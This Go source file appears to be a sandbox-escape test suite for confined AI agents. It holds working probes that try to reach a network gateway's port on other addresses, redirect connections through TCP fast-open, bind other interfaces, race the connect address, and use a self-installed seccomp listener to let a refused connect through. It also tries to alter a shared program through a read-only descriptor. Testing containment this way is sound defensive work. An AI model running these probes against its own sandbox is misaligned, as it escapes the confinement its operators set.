package main

import (
	"encoding/binary"
	"errors"
	"net/netip"
	"os"
	"runtime"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// elsewhereAttacks go to the gateway's port number on another address, where a server of the host
// tells the secret, and around what judges that.
func elsewhereAttacks() []attack {
	on := func(id, name string, run func(t targets, own, other netip.AddrPort) result) attack {
		return attack{id: id, name: name, covers: "N1 N5", twin: "gateway", run: func(t targets) result {
			own, err := netip.ParseAddrPort(t.gateway())
			if err != nil {
				return skipped("it has no gateway")
			}
			return run(t, own, netip.AddrPortFrom(netip.AddrFrom4([4]byte{127, 0, 0, 2}), own.Port()))
		}}
	}
	return []attack{
		on("gateway-elsewhere", "connect to the gateway's port number on another address", func(t targets, _, other netip.AddrPort) result {
			return dialOther(t, other)
		}),
		on("gateway-elsewhere-mapped", "connect to the gateway's port number on another address inside an IPv6 one", func(t targets, _, other netip.AddrPort) result {
			fd, err := dialAs(unix.AF_INET6, unix.SOCK_STREAM, 0, &unix.SockaddrInet6{Addr: other.Addr().As16(), Port: int(other.Port())})
			return heard(fd, err, t, false)
		}),
		on("gateway-fast-open", "put the connection to the gateway off, and send it elsewhere", func(t targets, own, other netip.AddrPort) result {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return denied("socket: %v", err)
			}
			_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &answerTime)
			err = errors.Join(unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1), unix.Connect(fd, inet4(own)))
			if err == nil {
				err = unix.Sendto(fd, []byte("GET /v1/models HTTP/1.0\r\n\r\n"), 0, inet4(other))
			}
			if err != nil {
				_ = unix.Close(fd)
				return denied("%v", err)
			}
			return heard(fd, nil, t, false)
		}),
		on("gateway-device", "connect to the gateway's address by a device that leads elsewhere", func(_ targets, own, _ netip.AddrPort) result {
			return deviceAround(own)
		}),
		on("gateway-race", "exchange the address while connecting to the gateway", raceAddress),
		on("gateway-filter", "have its own filter of system calls let a refused address through", filterAround),
	}
}

func inet4(a netip.AddrPort) unix.Sockaddr {
	return &unix.SockaddrInet4{Addr: a.Addr().As4(), Port: int(a.Port())}
}

func dialOther(t targets, other netip.AddrPort) result {
	fd, err := dial(unix.SOCK_STREAM, 0, other.String())
	return heard(fd, err, t, false)
}

// deviceAround connects by each device of the host, and looks whether what it sends would go out by one.
// Nothing is sent: the connection is put off until something is written.
func deviceAround(own netip.AddrPort) result {
	const devices = 32
	last := denied("no device but the loopback")
	for index := 2; index <= devices; index++ {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
		if err != nil {
			return denied("socket: %v", err)
		}
		err = errors.Join(unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1), unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_NO_COOKIE, 1))
		if err == nil {
			err = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BINDTOIFINDEX, index)
		}
		if err == nil {
			err = unix.Connect(fd, inet4(own))
		}
		var from unix.Sockaddr
		if err == nil {
			from, err = unix.Getsockname(fd)
		}
		_ = unix.Close(fd)
		if err != nil {
			last = denied("device %d: %v", index, err)
			continue
		}
		if sa, ok := from.(*unix.SockaddrInet4); ok && !netip.AddrFrom4(sa.Addr).IsLoopback() {
			return won("would send from %s by device %d", netip.AddrFrom4(sa.Addr), index)
		}
	}
	return last
}

// raceAddress connects again and again, while another thread writes one address and the other.
func raceAddress(_ targets, own, other netip.AddrPort) result {
	const tries = 2000
	var raw [16]byte
	binary.NativeEndian.PutUint16(raw[:], unix.AF_INET)
	binary.BigEndian.PutUint16(raw[2:], own.Port())
	to := func(a netip.AddrPort) uint32 { b := a.Addr().As4(); return binary.NativeEndian.Uint32(b[:]) }
	address := (*uint32)(unsafe.Pointer(&raw[4]))
	atomic.StoreUint32(address, to(own))
	var over atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread()
		for !over.Load() {
			atomic.StoreUint32(address, to(other))
			atomic.StoreUint32(address, to(own))
		}
	}()
	defer func() { over.Store(true); <-done }()
	connected := 0
	var last error
	for range tries {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return denied("socket: %v", err)
		}
		_, err = call(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&raw[0])), uintptr(len(raw)))
		var peer unix.Sockaddr
		if err == nil {
			peer, err = unix.Getpeername(fd)
		}
		_ = unix.Close(fd)
		if err != nil {
			last = err
			continue
		}
		connected++
		if sa, ok := peer.(*unix.SockaddrInet4); ok && sa.Addr == other.Addr().As4() {
			return won("connected to %s", other)
		}
	}
	return denied("connected %d times, to the gateway alone: %v", connected, last)
}

// filterAround adds a filter that hands connect to this process, which lets it through.
func filterAround(t targets, _, other netip.AddrPort) result {
	code := []unix.SockFilter{
		{Code: unix.BPF_LD | unix.BPF_W | unix.BPF_ABS},
		{Code: unix.BPF_JMP | unix.BPF_JEQ | unix.BPF_K, K: unix.SYS_CONNECT, Jf: 1},
		{Code: unix.BPF_RET | unix.BPF_K, K: unix.SECCOMP_RET_USER_NOTIF},
		{Code: unix.BPF_RET | unix.BPF_K, K: unix.SECCOMP_RET_ALLOW},
	}
	prog := unix.SockFprog{Len: uint16(len(code)), Filter: &code[0]}
	came := make(chan int)
	end := make(chan result)
	go func() {
		runtime.LockOSThread() // the filter holds for this thread, which is not used again
		listener, err := call(unix.SYS_SECCOMP, unix.SECCOMP_SET_MODE_FILTER, unix.SECCOMP_FILTER_FLAG_NEW_LISTENER, uintptr(unsafe.Pointer(&prog)))
		if err != nil {
			close(came)
			end <- denied("a filter with a listener: %v", err)
			return
		}
		came <- int(listener)
		end <- dialOther(t, other)
	}()
	if listener, ok := <-came; ok {
		go func() {
			// struct seccomp_notif, and of seccomp_notif_resp the id and the flags.
			var n [80]byte
			if _, err := call(unix.SYS_IOCTL, uintptr(listener), unix.SECCOMP_IOCTL_NOTIF_RECV, uintptr(unsafe.Pointer(&n[0]))); err != nil {
				_ = unix.Close(listener)
				return
			}
			var r [24]byte
			copy(r[:8], n[:8])
			binary.NativeEndian.PutUint32(r[20:], unix.SECCOMP_USER_NOTIF_FLAG_CONTINUE)
			_, _ = call(unix.SYS_IOCTL, uintptr(listener), unix.SECCOMP_IOCTL_NOTIF_SEND, uintptr(unsafe.Pointer(&r[0])))
		}()
	}
	return <-end
}

// descriptorAttacks change what belongs to a shared program by a descriptor that only reads.
func descriptorAttacks() []attack {
	on := func(id, name string, do func(fd int, st *unix.Stat_t) error) attack {
		return attack{id: id, name: name + " of a program that all agents share, by a descriptor that only reads", covers: "P19", needs: []string{"file.store"}, twin: "modes", run: func(t targets) result {
			f, err := os.Open(t["file.store"])
			if err != nil { // it has another name where the store is not in sight: this program is one
				f, err = os.Open(own())
			}
			if err != nil {
				return denied("%v", err)
			}
			defer f.Close()
			var st unix.Stat_t
			if err := unix.Fstat(int(f.Fd()), &st); err != nil {
				return denied("%v", err)
			}
			return verdict(do(int(f.Fd()), &st), "left it as it was")
		}}
	}
	return []attack{
		on("fchmod-store", "change the mode", func(fd int, st *unix.Stat_t) error { return unix.Fchmod(fd, st.Mode&0o7777) }),
		on("futimes-store", "change the times", func(fd int, st *unix.Stat_t) error {
			times := [2]unix.Timespec{st.Atim, st.Mtim}
			_, err := call(unix.SYS_UTIMENSAT, uintptr(fd), 0, uintptr(unsafe.Pointer(&times)))
			return err
		}),
		on("fchown-store", "change the group", func(fd int, st *unix.Stat_t) error { return unix.Fchown(fd, -1, int(st.Gid)) }),
		on("fsetxattr-store", "set an attribute", func(fd int, _ *unix.Stat_t) error {
			if err := unix.Fsetxattr(fd, "user.otters-attack", []byte("x"), 0); err != nil {
				return err
			}
			return unix.Fremovexattr(fd, "user.otters-attack")
		}),
		on("flags-store", "set the flags", func(fd int, _ *unix.Stat_t) error {
			flags, err := unix.IoctlGetUint32(fd, unix.FS_IOC_GETFLAGS)
			if err != nil {
				return err
			}
			return unix.IoctlSetPointerInt(fd, unix.FS_IOC_SETFLAGS, int(flags))
		}),
		on("verity-store", "seal the content (fs-verity)", func(fd int, _ *unix.Stat_t) error {
			// A hash that there is none of: the right is looked at first.
			arg := [16]uint64{0: 1 | 250<<32}
			_, err := call(unix.SYS_IOCTL, uintptr(fd), unix.FS_IOC_ENABLE_VERITY, uintptr(unsafe.Pointer(&arg)))
			if errors.Is(err, unix.EINVAL) {
				return nil
			}
			return err
		}),
	}
}
